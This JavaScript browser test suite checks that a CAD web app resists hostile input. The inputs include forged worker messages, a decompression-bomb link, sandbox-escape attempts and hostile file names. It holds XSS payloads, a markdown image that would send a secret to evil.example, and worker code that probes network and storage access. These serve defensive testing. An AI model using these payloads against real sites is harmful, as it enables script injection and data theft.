// The attack list in the browser: hostile code in the built app, hostile texts on the page, forged worker messages.
// Code and expected outcomes come from the native suite (tests/it/attacks), so that both suites test the same attacks.
import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import { deflateRawSync, inflateRawSync } from "node:zlib";
import { assert, assertEqual, eventually, test, TIMED } from "../fixtures.mjs";
import { KEY, reply, startMock, text, toolUse } from "../mock-anthropic.mjs";
import { closeNow } from "../static-server.mjs";
import {
  activeContent,
  connect,
  crc32,
  drawCircles,
  drawn,
  entities,
  fromDrawings,
  fromMenu,
  hook,
  keyOf,
  linkOf,
  mainThread,
  openApp,
  pageEventually,
  ready,
  runCode,
  saved,
  say,
  typeCode,
  waitForEntities,
  watchActiveContent,
  watchMainThread,
} from "../page.mjs";

const ATTACKS = JSON.parse(readFileSync(new URL("../../golden/attacks.json", import.meta.url), "utf8"));

/** Well-formed answers with an impossible drawing, as the native suite encodes them, with the words of the reason for each refusal. */
const IMPOSSIBLE = JSON.parse(readFileSync(new URL("../../golden/forged_answers.json", import.meta.url), "utf8"));

/** Pattern that the message of each limit matches, and no message of another limit. */
const SAYS = {
  time: /timed out after|stopped after [\d.]+ s/,
  memory: /out of memory/,
  recursion: /maximum call stack/,
};

/** Time limits for an answer of the page and for the result of the next run, in milliseconds. */
const LIMITS = { "longest main-thread task": 100, "next run, typing included": 1_000 };

/** Draws circles with these names, and returns the times of `LIMITS`: the longest task since `watchMainThread`, and this run. */
async function timesUntilDrawn(page, ...names) {
  const { longest } = await mainThread(page);
  const started = performance.now();
  await drawCircles(page, ...names);
  const next = performance.now() - started;
  await page.waitForSelector(hook("problem"), { state: "detached" });
  return { "longest main-thread task": longest, "next run, typing included": next };
}

/**
 * Replaces the Worker class of each frame by one that records its objects and can replace their messages. `window.workers` of the sandbox frame
 * (see `sandbox`) has:
 * - `most`: the maximum number of workers that existed at the same time;
 * - `runs`: each run that a worker received, with its start, its end (answered, broken, or terminated by the page), its
 *   duration in ms, and the number of its outcomes: answers, or the termination of a worker without an answer;
 * - `forge` and `silent`: a function from `forgeries` that makes messages of a run, and whether the run itself is withheld;
 * - `twice`: whether each real result is sent a second time;
 * - `last`: the last real result;
 * - `answerLate(run)`: the function that sends the last result from the worker of a run, with the number of that run;
 * - `hold` and `release()`: whether workers do not receive the engine, and the function that gives it to them;
 * - `ready` and `otherBuild`: the last message of a worker that is ready, and the build of which workers say that they are.
 */
function watchWorkers() {
  const Real = window.Worker;
  const alive = new Set();
  const forgeries = {
    "unknown messages": () => [null, "done", 7, [], {}, { kind: "done" }, { kind: "done", id: -1, bytes: [] }, { kind: "other" }],
    "random bytes": ({ id }) => [{ kind: "done", id, bytes: crypto.getRandomValues(new Uint8Array(5000)) }],
    "no bytes": ({ id }) => [{ kind: "done", id, bytes: new Uint8Array(0) }],
    "the result of another run": ({ id }) => [{ kind: "done", id: id + 1, bytes: new Uint8Array(9) }],
    "the valid result of an earlier run": () => [{ ...workers.last, bytes: workers.last.bytes.slice() }],
    "too many bytes": ({ id }) => [{ kind: "done", id, bytes: new Uint8Array((64 << 20) + 1) }],
    "a crash with markup": ({ id }) => [{ kind: "crash", id, text: "<img src=x onerror=alert(1)>", panic: "" }],
    "a second ready": () => [{ kind: "ready", protocol: 1, build: "x" }],
    "2000 times stuck": ({ id }) => Array.from({ length: 2000 }, () => ({ kind: "stuck", id, file: "main", line: 99999, column: 1 })),
    "two results": ({ id }) => [1, 2].map(() => ({ kind: "done", id, bytes: new Uint8Array([3, 1, 2]) })),
  };
  const held = [];
  const ended = (run, end) => {
    if (!run || (end === "terminated" && run.outcomes > 0)) return;
    run.outcomes += 1;
    if (run.end === null) Object.assign(run, { end, duration: performance.now() - run.start });
  };
  const workers = { most: 0, runs: [], forge: null, silent: false, twice: false, forgeries, hold: false };
  const received = [];
  workers.answerLate = (run) => {
    const { worker, id } = received[run];
    worker.dispatchEvent(new MessageEvent("message", { data: { ...workers.last, id, bytes: workers.last.bytes.slice() } }));
  };
  workers.release = () => {
    workers.hold = false;
    for (const send of held.splice(0)) send();
  };
  window.workers = workers;
  window.Worker = class extends Real {
    constructor(...given) {
      super(...given);
      alive.add(this);
      workers.most = Math.max(workers.most, alive.size);
      this.addEventListener("message", ({ data, isTrusted }) => {
        if (isTrusted && data?.kind === "done") {
          workers.last = { ...data, bytes: data.bytes.slice() };
          if (workers.twice) workers.answerLate(received.length - 1);
        }
        if (data?.kind === "ready") workers.ready = data;
        if (data?.kind === "done") ended(this.run, "answered");
        if (data?.kind === "crash") ended(this.run, "broken");
      });
    }
    postMessage(message, ...rest) {
      const send = () => super.postMessage(message, ...rest);
      if (message.kind === "arm" && workers.otherBuild) {
        const data = { ...workers.ready, build: workers.otherBuild };
        setTimeout(() => this.dispatchEvent(new MessageEvent("message", { data })));
        return;
      }
      if (message.kind === "arm" && workers.hold) {
        held.push(send);
        return;
      }
      if (message.kind === "run") {
        received.push({ worker: this, id: message.id });
        workers.runs.push((this.run = { start: performance.now(), end: null, outcomes: 0 }));
        for (const data of workers.forge?.(message) ?? []) {
          setTimeout(() => this.dispatchEvent(new MessageEvent("message", { data })));
        }
        if (workers.forge && workers.silent) return;
      }
      send();
    }
    terminate() {
      alive.delete(this);
      ended(this.run, "terminated");
      super.terminate();
    }
  };
}

/** Returns the frame in which the workers run. */
function sandbox(page) {
  return page.frames().find((frame) => frame.url() === "about:srcdoc");
}

/** Runs endless code and waits until a worker has received it. The label makes the code differ from earlier code. */
async function startEndless(page, label) {
  const before = await sandbox(page).evaluate(() => window.workers.runs.length);
  await runCode(page, `// ${label}\nwhile (true) {}`);
  const received = () => sandbox(page).evaluate(() => window.workers.runs.length);
  await eventually("a worker has received the run", async () => (await received()) > before);
}

/** Waits until nothing runs; then each run has exactly one outcome, and there were at most two workers. Returns the ends. */
async function assertRunsEnded(page, run) {
  await page.waitForSelector(`${hook("stop-run")}[aria-disabled="true"]`);
  const { runs, most } = await sandbox(page).evaluate(() => ({ runs: window.workers.runs, most: window.workers.most }));
  const ends = runs.map(({ end }) => end);
  run.note(`${runs.length} runs: ${ends.join(", ")}; at most ${most} workers at the same time`);
  assertEqual(runs.map(({ outcomes }) => outcomes), runs.map(() => 1), "outcomes of each run");
  assert(!ends.includes(null), `runs without an end: ${ends}`);
  assert(most <= 2, `${most} workers existed at the same time`);
  return ends;
}

/** Waits for a problem that matches the pattern, and returns its text. */
function problem(page, wanted, limit = 25_000) {
  return pageEventually(
    page,
    `a problem that says ${wanted}`,
    ([selector, source]) => {
      const said = document.querySelector(selector)?.textContent;
      return said && new RegExp(source).test(said) && said;
    },
    [hook("problem"), wanted.source],
    limit,
  );
}

for (const { item, code, outcome } of ATTACKS) {
  test(`attack: item ${item} ends with ${outcome} and the next run works within a second`, TIMED, async ({ run }) => {
    const page = await openApp(run, { init: watchWorkers });
    const [kind, what] = outcome.split(" ");
    await run.withinLimits(LIMITS, async () => {
      await drawCircles(page, "before");
      await watchMainThread(page);
      await sandbox(page).evaluate(() => (window.workers.runs = []));
      if (kind === "OK") {
        await typeCode(page, `${code}\ndrawCircle("done", 0, 0, 1);`);
        await waitForEntities(page, ["done"]);
      } else {
        await typeCode(page, code);
        const said = await problem(page, SAYS[what] ?? /./);
        run.note(said.trim().slice(0, 140));
        const others = Object.keys(SAYS).filter((limit) => limit !== what && SAYS[limit].test(said));
        assertEqual(others, [], `other limits in the message '${said}'`);
        await waitForEntities(page, ["before"]);
      }
      // The worker itself reports a limit of the engine. The page terminates the worker of a run that the engine cannot stop.
      const [end] = await assertRunsEnded(page, run);
      assertEqual(end, kind === "KILL" ? "terminated" : "answered", "how the run ended");
      assertEqual(await page.locator(hook("problem")).count(), kind === "OK" ? 0 : 1, "problems");
      return timesUntilDrawn(page, "after");
    });
  });
}

const MARKUP = ['<img src=x onerror=alert(1)>', '"><script>alert(2)</script>', "</text><foreignObject>", "{{7*7}}", "&lt;b&gt;"];

/** Waits until an element with this hook shows these texts literally, as the text or the value of a field. */
function shows(page, name, texts) {
  return pageEventually(
    page,
    `${name} shows ${texts.join(" ")}`,
    ([selector, texts]) => {
      const shown = [...document.querySelectorAll(selector)].flatMap((element) => [element.textContent, element.value ?? ""]).join("\n");
      return texts.every((text) => shown.includes(text));
    },
    [hook(name), texts],
  );
}

test("attack: markup is text in the tree, the log, problems and the preview", TIMED, async ({ run }) => {
  const page = await openApp(run);
  page.on("dialog", (dialog) => run.problems.push(`a dialog: ${dialog.message()}`));
  await watchActiveContent(page);
  const clean = async (where) => assertEqual(await activeContent(page), [], `elements and attributes made from text ${where}`);
  const lines = MARKUP.map((text) => {
    const name = JSON.stringify(text);
    return `createLayer(${name}); drawCircle({ name: ${name}, x: 0, y: 0, radius: 5, layer: ${name} }); console.log(${name});`;
  });
  await run.withinLimits(LIMITS, async () => {
    await watchMainThread(page);
    await typeCode(page, [`set_drawing({ name: ${JSON.stringify(MARKUP.join(" "))} });`, ...lines].join("\n"));
    await waitForEntities(page, MARKUP);
    await shows(page, "tree-row", MARKUP);
    await shows(page, "logs", MARKUP);
    await shows(page, "drawing-name", [MARKUP.join(" ")]);
    await shows(page, "layer-row", MARKUP);
    await clean("in the tree, the log, the title, the layers, and on the canvas");
    for (const text of MARKUP) {
      await page.locator(hook("tree-row")).filter({ hasText: text }).click();
      await shows(page, "property-name", [text]);
      await shows(page, "property-layer", [text]);
    }
    await page.locator(hook("tab-chat")).click();
    await shows(page, "selection-chip", MARKUP.slice(-1));
    await clean("in the properties and the chip of the selection");
    await fromDrawings(page, "open-library");
    await shows(page, "drawing-row", [MARKUP.join(" ")]);
    await clean("in the list of drawings");
    await page.locator(hook("close-library")).click();
    const link = await linkOf(page);
    await typeCode(page, `throw new Error(${JSON.stringify(MARKUP.join(" "))});`);
    await shows(page, "problem", [MARKUP.join(" ")]);
    await clean("in the problem");
    await page.evaluate((hash) => (location.hash = hash), new URL(link).hash);
    await page.waitForSelector(`${hook("preview-state")}[data-state="drawn"]`);
    await shows(page, "preview", MARKUP);
    await clean("in the preview");
    await page.locator(hook("close-preview")).click();
    return timesUntilDrawn(page, "after");
  });
});

test("attack: markup is text in approvals and tool calls of a model", async ({ run }) => {
  const code = MARKUP.map((text) => `delete_entity({ name: ${JSON.stringify(text)} });`).join("\n");
  const calls = MARKUP.map((text, at) => toolUse(`toolu_${at}`, "draw_circle", { name: text, x: 0, y: 0, radius: 5 }));
  const mock = await startMock({
    turns: [reply(...calls), reply(text("Drawn.")), reply(toolUse("toolu_9", "run_cad_code", { code })), reply(text("Gone."))],
  });
  try {
    const page = await openApp(run);
    page.on("dialog", (dialog) => run.problems.push(`a dialog: ${dialog.message()}`));
    await typeCode(page, "");
    await waitForEntities(page, []);
    await connect(page, { baseUrl: mock.baseUrl, key: KEY });
    await watchActiveContent(page);
    await say(page, "draw them");
    await waitForEntities(page, MARKUP);
    await shows(page, "tool-call", MARKUP);
    await page.waitForSelector(hook("receipt"));
    await say(page, "delete them");
    await shows(page, "asking", MARKUP);
    await page.locator(hook("keep")).click();
    await waitForEntities(page, []);
    assertEqual(await activeContent(page), [], "elements and attributes made from text");
  } finally {
    await mock.close();
  }
});

test("attack: text of a model is shown without links, pictures or markup", async ({ run }) => {
  const words =
    "Here ![](https://evil.example/?q=secret) and [a link](javascript:alert(1)) and <img src=x onerror=alert(1)> <script>alert(1)</script> **done**";
  const mock = await startMock({ turns: [reply(text(words))] });
  try {
    const page = await openApp(run);
    page.on("dialog", (dialog) => run.problems.push(`a dialog: ${dialog.message()}`));
    page.on("request", (request) => {
      if (request.url().includes("evil.example")) run.problems.push(`a request to ${request.url()}`);
    });
    await connect(page, { baseUrl: mock.baseUrl, key: KEY });
    await say(page, "hello");
    const message = `${hook("message")}[data-role="model"]`;
    await pageEventually(page, "the answer", (selector) => document.querySelector(selector)?.textContent.includes("done"), message);
    assertEqual(await page.locator(`${message} :is(img, script, a, iframe, object, svg image)`).count(), 0, "elements made from the answer");
    const shown = await page.locator(message).first().textContent();
    assert(shown.includes("onerror=alert(1)") && shown.includes("evil.example"), `every letter is shown: ${shown}`);
  } finally {
    await mock.close();
  }
});

test("attack: a link that decompresses to a gigabyte is refused at once", TIMED, async ({ run }) => {
  const packed = deflateRawSync(Buffer.alloc(1 << 30, 32), { level: 9 });
  const encoded = packed.toString("base64url");
  const page = await openApp(run);
  await run.withinLimits(LIMITS, async () => {
    await drawCircles(page, "own");
    const longest = [];
    for (const claimed of [100, 4 << 20]) {
      const fragment = `t1.${encoded.length}.${claimed}.${crc32(packed)}.${encoded}`;
      run.note(`${fragment.length} characters claim ${claimed} bytes`);
      // The browser itself needs about 100 ms to set any address of this length, so the measurement begins afterward.
      await page.evaluate((hash) => history.replaceState(null, "", `#${hash}`), fragment);
      await watchMainThread(page);
      await page.evaluate(() => void setTimeout(() => dispatchEvent(new HashChangeEvent("hashchange"))));
      await page.waitForSelector(`${hook("share-trouble")}[data-kind="corrupt"]`);
      await page.locator(`${hook("share-trouble")} button`).last().click();
      await page.waitForSelector(hook("share-trouble"), { state: "detached" });
      longest.push((await mainThread(page)).longest);
    }
    await waitForEntities(page, ["own"]);
    return { ...(await timesUntilDrawn(page, "own", "after")), "longest main-thread task": Math.max(...longest) };
  });
});

/** Pattern of the problem that each forgery of `watchWorkers` causes; without one, the run succeeds. */
const REFUSALS = {
  "unknown messages": null,
  "random bytes": /the result of the run could not be decoded/,
  "no bytes": /the result of the run could not be decoded/,
  "the result of another run": /the script engine sent an unexpected message/,
  "the valid result of an earlier run": /the script engine sent an unexpected message/,
  "too many bytes": /the result is larger than 64 MiB/,
  "a crash with markup": /the script engine crashed \(<img src=x onerror=alert\(1\)>\)/,
  "a second ready": /the script engine sent an unexpected message/,
  "2000 times stuck": /the script engine sent an unexpected message/,
  "two results": /the result of the run could not be decoded/,
};

/** Limit for the answer to a forged message, in milliseconds: far below the time after which the page ends a silent worker. */
const REFUSED_WITHIN = 5_000;

test("attack: forged worker answers leave the drawing unchanged, and the next run works", TIMED, async ({ run }) => {
  const page = await openApp(run, { init: watchWorkers });
  page.on("dialog", (dialog) => run.problems.push(`a dialog: ${dialog.message()}`));
  await drawCircles(page, "before");
  assertEqual(await sandbox(page).evaluate(() => Object.keys(window.workers.forgeries)), Object.keys(REFUSALS), "forgeries");
  const attempts = Object.entries(REFUSALS).map(([name, refusal]) => ({ name, refusal, answer: null }));
  for (const { what, says, deflated } of IMPOSSIBLE) {
    const answer = inflateRawSync(Buffer.from(deflated, "base64")).toString("base64");
    attempts.push({ name: what, refusal: new RegExp(says), answer });
  }
  for (const { name, refusal, answer } of attempts) {
    const measure = async () => {
      const before = await entities(page);
      await sandbox(page).evaluate(
        ([name, silent, answer]) => {
          const bytes = answer && Uint8Array.from(atob(answer), (letter) => letter.charCodeAt(0));
          window.workers.forge = bytes ? ({ id }) => [{ kind: "done", id, bytes: bytes.slice() }] : window.workers.forgeries[name];
          window.workers.silent = silent;
        },
        [name, refusal !== null, answer],
      );
      await watchMainThread(page);
      await typeCode(page, `drawCircle("forged", 0, 0, 5); // ${name}`);
      if (refusal) {
        await problem(page, refusal, REFUSED_WITHIN);
        assertEqual(await entities(page), before, `the drawing after ${name}`);
      } else {
        await waitForEntities(page, ["forged"]);
      }
      assertEqual(await page.locator(hook("problem")).count(), refusal ? 1 : 0, `problems after ${name}`);
      assertEqual(await page.locator("img[src=x]").count(), 0, `elements made from ${name}`);
      await sandbox(page).evaluate(() => {
        window.workers.forge = null;
        window.workers.silent = false;
      });
      const { script } = await mainThread(page);
      const times = await timesUntilDrawn(page, "after");
      // The browser itself needs up to 100 ms to move 64 MiB from the frame to the page, so only the script of the page counts.
      return name === "too many bytes" ? { ...times, "longest main-thread task": script } : times;
    };
    await run.withinLimits(LIMITS, measure, name);
  }
});

test("attack: a result that arrives twice or after the end of its run has no second effect", async ({ run }) => {
  const page = await openApp(run, { init: watchWorkers });
  await drawCircles(page, "before");
  await sandbox(page).evaluate(() => (window.workers.twice = true));
  await drawCircles(page, "twice");
  await drawCircles(page, "twice", "again");
  await sandbox(page).evaluate(() => (window.workers.twice = false));
  await startEndless(page, "replaced");
  const endless = (await sandbox(page).evaluate(() => window.workers.runs.length)) - 1;
  await drawCircles(page, "newer");
  // The worker of the endless run answers after its termination, with the number of that run and a valid result.
  await sandbox(page).evaluate((run) => window.workers.answerLate(run), endless);
  await drawn(page);
  assertEqual(await entities(page), ["newer"], "the drawing after the late result");
  await drawCircles(page, "newer", "next");
  assertEqual(await page.locator(hook("problem")).count(), 0, "problems");
});

/** Starts a server on another origin that counts its requests and permits every page to read its answers. */
async function startForeign() {
  const requests = [];
  const server = createServer((request, response) => {
    requests.push(request.url);
    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/javascript" }).end("export {};");
  });
  await new Promise((started) => server.listen(0, started));
  // The name of this computer by number is an address that the policy of the page does not list.
  return { url: `http://127.0.0.2:${server.address().port}/`, requests, close: () => closeNow(server) };
}

test("attack: every policy names the script of the sandbox frame", async ({ run }) => {
  const read = (path) => readFileSync(new URL(`../../../${path}`, import.meta.url), "utf8").replaceAll("\r\n", "\n");
  const [, script] = /<script>(.*)<\/script>/s.exec(read("src/runner/frame.html"));
  const hash = `'sha256-${createHash("sha256").update(script).digest("base64")}'`;
  run.note(hash);
  for (const path of ["src/runner/frame.html", "index.html", "web/static/embed.html", "docs/hosting.md"]) {
    assert(read(path).includes(hash), `${path} does not have the hash ${hash}`);
  }
});

test("attack: a page cannot fetch from a server that is not listed", async ({ run }) => {
  run.allow(/Content.Security.Policy|CSP|violates/);
  const foreign = await startForeign();
  try {
    const page = await openApp(run);
    const outcome = await page.evaluate(async (url) => {
      const violated = new Promise((resolve) => document.addEventListener("securitypolicyviolation", resolve, { once: true }));
      const fetched = await fetch(url).then(() => "fetched", () => "refused");
      return [fetched, (await violated).effectiveDirective];
    }, `${foreign.url}page?secret`);
    assertEqual(outcome, ["refused", "connect-src"], "the request of the page");
    assertEqual(foreign.requests, [], "requests that arrived");
  } finally {
    await foreign.close();
  }
});

// The code of a worker that belongs to an attacker: it tries every way to the network that the language and the worker have.
// The globals are read before they are removed, as an engine that finds a way around the removal would.
const ESCAPES = `
  const ways = {
    "import of the own origin": () => import(OWN + "static/icon.svg?secret-import"),
    "import of a script of the own origin": () => import(OWN + "static/recovery.js?secret-script"),
    "import of another origin": () => import(FOREIGN + "import?secret"),
    "import of data": () => import("data:text/javascript,export default 1"),
    "fetch of the own origin": () => fetched(OWN + "static/icon.svg?secret-fetch"),
    "fetch of another origin": () => fetched(FOREIGN + "fetch?secret"),
    "a script of the own origin": () => imported(OWN + "static/shim.js?secret-classic"),
    "a socket": () => new Promise((opened, refused) => {
      const socket = new Socket(FOREIGN.replace("http", "ws") + "socket?secret");
      Object.assign(socket, { onopen: opened, onerror: refused });
    }),
    "stored data": () => new Promise((opened, refused) => {
      const request = databases.open("x");
      Object.assign(request, { onsuccess: opened, onerror: refused });
    }),
  };
  const attempts = Object.entries(ways).map(async ([name, way]) => {
    try {
      await way();
      return name;
    } catch {
      return null;
    }
  });
  Promise.all(attempts).then((found) => console.info("escapes:" + JSON.stringify(found.filter(Boolean))));
`;

for (const [name, before, after] of [
  ["whose globals are removed", "", ESCAPES],
  ["whose globals are all there", ESCAPES, ""],
]) {
  test(`attack: a worker ${name} reaches no server and no stored data`, async ({ run }) => {
    // The browser reports each refusal on the console.
    run.allow(/Content.Security.Policy|CSP|violates|WebSocket|Failed to/);
    const foreign = await startForeign();
    try {
      const page = await run.newPage();
      const asked = [];
      page.context().on("response", (response) => asked.push(response.url()));
      const escapes = new Promise((resolve) => {
        page.on("console", (message) => {
          if (message.text().startsWith("escapes:")) resolve(JSON.parse(message.text().slice("escapes:".length)));
        });
      });
      const constants = `const OWN = ${JSON.stringify(run.url)}, FOREIGN = ${JSON.stringify(foreign.url)};
        const fetched = (url) => self.fetch(url), imported = async (url) => self.importScripts(url), Socket = self.WebSocket,
          databases = self.indexedDB;`;
      // Each worker starts from a blob, which the frame builds from the parts that the page sends.
      await page.addInitScript(
        ([before, after]) => {
          const Real = window.Blob;
          window.Blob = class extends Real {
            constructor(parts, options) {
              super(options?.type === "text/javascript" ? [before, ...parts, after] : parts, options);
            }
          };
        },
        [constants + before, after],
      );
      await page.goto(run.url);
      await ready(page);
      assertEqual(await escapes, [], "ways that were open");
      assertEqual(foreign.requests, [], "requests that arrived at another server");
      assertEqual(asked.filter((url) => url.includes("secret")), [], "files that the worker received");
      await drawCircles(page, "after");
    } finally {
      await foreign.close();
    }
  });
}

test("attack: at most two workers exist, and every run ends", async ({ run }) => {
  const page = await openApp(run, { init: watchWorkers });
  await drawCircles(page, "first");
  // A newer run replaces an older one that has not ended.
  for (let at = 0; at < 20; at += 1) await runCode(page, `drawCircle("quick_${at}", 0, 0, 5);`);
  await waitForEntities(page, ["quick_19"]);
  await startEndless(page, "replaced");
  await runCode(page, 'drawCircle("overtaking", 0, 0, 5);');
  await waitForEntities(page, ["overtaking"]);
  // The user stops a run that nothing replaces.
  await startEndless(page, "stopped");
  const started = performance.now();
  await page.locator(hook("stop-run")).click();
  await problem(page, /Stopped by the user/, 5_000);
  run.note(`stopped after ${Math.round(performance.now() - started)} ms`);
  await waitForEntities(page, ["overtaking"]);
  const ends = await assertRunsEnded(page, run);
  assertEqual(ends.at(-1), "terminated", "the end of the stopped run");
  assertEqual(await page.locator(hook("problem")).count(), 1, "problems");
  await drawCircles(page, "after");
  await page.waitForSelector(hook("problem"), { state: "detached" });
});

test("attack: a missing engine is reported and everything else works", async ({ run }) => {
  run.allow(/Failed to load resource/, /404/, /SyntaxError/, /WebAssembly/, /sandbox/);
  const answers = [
    ["sandbox_bg.wasm", { status: 404, body: "not found" }, /could not be loaded/],
    ["sandbox_bg.wasm", { status: 200, contentType: "application/wasm", body: "no wasm" }, /could not be loaded/],
    ["sandbox.js", { status: 404, body: "not found" }, /could not be loaded/],
    ["sandbox.js", { status: 200, contentType: "text/javascript", body: "this is no code" }, /could not be loaded/],
    [
      "sandbox.js",
      {
        status: 200,
        contentType: "text/javascript",
        body: 'const wasm_bindgen = { initSync() {}, protocol: () => 1, build: () => "0.0.1" };',
      },
      /another version/,
    ],
  ];
  for (const [file, answer, says] of answers) {
    const page = await run.newPage();
    const broken = (url) => url.pathname.endsWith(`/${file}`);
    await page.route(broken, (route) => route.fulfill(answer));
    await page.goto(run.url);
    await ready(page);
    await typeCode(page, 'drawCircle("now", 0, 0, 5);');
    const said = await problem(page, says);
    run.note(`${file}: ${said.trim().slice(0, 130)}`);
    await page.locator(hook("share")).click();
    await page.locator(hook("share-link")).click();
    await page.locator(hook("export-as-is")).click();
    await page.waitForSelector(hook("share-url"));
    await page.locator(hook("close-share")).click();
    await page.waitForSelector(hook("share-dialog"), { state: "detached" });
    await page.unroute(broken);
    // The next run loads the engine again.
    await drawCircles(page, "mended");
    await page.waitForSelector(hook("problem"), { state: "detached" });
  }
});

test("attack: a worker has no network, no storage and no other workers", TIMED, async ({ run }) => {
  run.allow(/Content.Security.Policy|unsafe-eval|CSP/);
  const glue = `
    const found = [];
    const names = "fetch XMLHttpRequest WebSocket EventSource WebTransport RTCPeerConnection importScripts indexedDB caches " +
      "cookieStore BroadcastChannel Worker SharedWorker MessageChannel navigator location postMessage setTimeout " +
      "setInterval requestAnimationFrame queueMicrotask structuredClone createImageBitmap FontFace Notification " +
      "FileReader FileReaderSync Blob File URL OffscreenCanvas StorageManager";
    for (const name of names.split(" ")) {
      for (let level = self; level; level = Object.getPrototypeOf(level)) {
        if (Object.getOwnPropertyDescriptor(level, name)?.value || Object.getOwnPropertyDescriptor(level, name)?.get) found.push(name);
      }
    }
    for (const make of [() => eval("1"), () => new Function("return fetch")(), () => (async () => {}).constructor("return fetch")()]) {
      try { make(); found.push("code from text"); } catch {}
    }
    const wasm_bindgen = { initSync() {}, protocol: () => 1, build: () => "found[" + found.join(",") + "]" };`;
  const isGlue = (url) => url.pathname.endsWith("/sandbox.js");
  await run.withinLimits(LIMITS, async () => {
    const page = await run.newPage();
    await page.route(isGlue, (route) => route.fulfill({ status: 200, contentType: "text/javascript", body: glue }));
    await page.goto(run.url);
    await ready(page);
    await watchMainThread(page);
    // The page runs its example at the start.
    const said = await problem(page, /found\[/);
    assert(said.includes("found[]"), `what a worker can reach: ${said}`);
    // The next run loads the real engine.
    await page.unroute(isGlue);
    return timesUntilDrawn(page, "after");
  });
});

test("attack: an exported SVG with hostile texts runs and fetches nothing", async ({ run }) => {
  const page = await openApp(run);
  const texts = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "]]><script>alert(2)</script>", "</text><foreignObject><iframe src=https://evil.example>"];
  const lines = texts.map((text, at) => {
    const name = JSON.stringify(text);
    return `drawCircle(${name}, 0, 0, 5); drawText("t${at}", ${name}, 0, ${at * 9}, 4); createLayer(${name});`;
  });
  await typeCode(page, lines.join("\n"));
  await waitForEntities(page, [...texts, ...texts.map((_, at) => `t${at}`)]);
  await fromMenu(page, "share-export");
  const { text } = await saved(page, "export-svg-file");

  // The iframe allows scripts, so that a script in the picture would run and be detected.
  const other = await run.newPage();
  const troubles = [];
  other.on("dialog", (dialog) => troubles.push(`a dialog: ${dialog.message()}`));
  other.on("request", (request) => request.url().startsWith("data:") || troubles.push(`a request to ${request.url()}`));
  const address = `data:image/svg+xml;base64,${Buffer.from(text).toString("base64")}`;
  await other.setContent(`<iframe sandbox="allow-scripts" src="${address}"></iframe>`);
  const frame = await (await other.waitForSelector("iframe")).contentFrame();
  await frame.waitForSelector("svg");
  const found = await frame.evaluate(() =>
    [...document.querySelectorAll("*")].map((element) => ({
      name: element.localName,
      attributes: [...element.attributes].map(({ name, value }) => [name, value]),
    })),
  );
  assert(found.length > 2 * texts.length, `only ${found.length} elements were opened`);
  const allowed = new Set("svg title g path circle rect ellipse line polyline polygon text defs clipPath metadata project".split(" "));
  const bad = found.flatMap(({ name, attributes }) => [
    ...(allowed.has(name) ? [] : [`<${name}>`]),
    ...attributes.filter(([key, value]) => /^on|href|^style$/i.test(key) || /url\((?!#)/.test(value)).map(([key]) => `${name} ${key}`),
  ]);
  assertEqual(bad, [], "elements and attributes that do not belong into a picture");
  assertEqual(troubles, [], "what the picture did");
});

test("share: file names of hostile titles are sanitized", async ({ run }) => {
  const page = await openApp(run);
  for (const title of ["../../x", "C:\\\\x", ".hidden", "a\u202egpj.exe", "x".repeat(200), "a/b:c*d?e|f", "-rf", "con"]) {
    await typeCode(page, `set_drawing({ name: ${JSON.stringify(title)} });\ndrawCircle("c", 0, 0, ${title.length});`);
    await waitForEntities(page, ["c"]);
    await pageEventually(page, "saved", (selector) => document.querySelector(selector), `${hook("saved")}[data-state="saved"]`);
    await fromMenu(page, "share-export");
    for (const [format, extension] of [["svg", "svg"], ["project", "trammel.json"]]) {
      const { name } = await saved(page, `export-${format}-file`);
      run.note(name);
      assert(name.endsWith(`.${extension}`), `${name} ends with .${extension}`);
      const stem = name.slice(0, -extension.length - 1);
      assert(/^[\p{L}\p{N}_-]{1,60}$/u.test(stem) && stem !== "con", `${JSON.stringify(name)} for the title ${JSON.stringify(title)}`);
    }
    await page.locator(hook("close-export")).click();
  }
});

test("attack: full and disabled storage lose nothing", async ({ run }) => {
  const page = await run.newPage();
  const session = await page.context().newCDPSession(page);
  const { origin } = new URL(run.url);
  await session.send("Storage.overrideQuotaForOrigin", { origin, quotaSize: 1 << 20 });
  await page.goto(run.url);
  await ready(page);
  await drawCircles(page, "stored");
  await page.waitForSelector(`${hook("saved")}[data-state="saved"]`);
  // Fills the storage up to the real quota, to the last character.
  const filled = await page.evaluate(() => {
    let [text, size] = ["", 1 << 24];
    while (size >= 1) {
      try {
        localStorage.setItem("filler", text + "x".repeat(size));
        text += "x".repeat(size);
      } catch {
        size = Math.floor(size / 2);
      }
    }
    return text.length;
  });
  run.note(`${filled} characters fill the storage`);
  assert(filled > 1 << 20, `only ${filled} characters could be stored`);
  await drawCircles(page, "stored", "in_database");
  await page.waitForSelector(`${hook("saved")}[data-state="saved"]`);
  // Fills the databases of the origin up to their real quota, which is 1 MiB here.
  const records = await page.evaluate(async () => {
    const done = (request) => new Promise((resolve, reject) => Object.assign(request, { onsuccess: resolve, onerror: reject }));
    const opening = indexedDB.open("filler");
    opening.onupgradeneeded = () => opening.result.createObjectStore("store");
    await done(opening);
    let [count, size] = [0, 1 << 16];
    while (size >= 128) {
      const writing = opening.result.transaction("store", "readwrite");
      // Random bytes, because the database compresses its data.
      writing.objectStore("store").put(crypto.getRandomValues(new Uint8Array(size)), (count += 1));
      const stored = await new Promise((end) => Object.assign(writing, { oncomplete: () => end(true), onabort: () => end(false) }));
      if (!stored) size = Math.floor(size / 2);
    }
    opening.result.close();
    return count;
  });
  run.note(`${records} records fill the databases`);
  await drawCircles(page, "stored", "in_database", "only_here");
  await page.waitForSelector(hook("save-failed"));
  await fromMenu(page, "share-export");
  const { text } = await saved(page, "export-project-file");
  assert(text.includes("only_here"), "the export holds what could not be stored");
  await page.locator(hook("close-export")).click();
  await session.send("Storage.overrideQuotaForOrigin", { origin });
  await drawCircles(page, "stored", "in_database", "only_here", "again");
  await page.waitForSelector(`${hook("saved")}[data-state="saved"]`);
  await page.reload();
  await ready(page);
  await waitForEntities(page, ["stored", "in_database", "only_here", "again"]);

  const denyStorage = () => {
    const denied = {
      get() {
        throw new DOMException("denied", "SecurityError");
      },
    };
    for (const name of ["localStorage", "sessionStorage", "indexedDB"]) Object.defineProperty(window, name, denied);
  };
  const closed = await openApp(run, { init: denyStorage });
  await drawCircles(closed, "without", "storage");
  // A banner says that nothing is stored, and why.
  const banner = await closed.locator(hook("save-failed")).innerText();
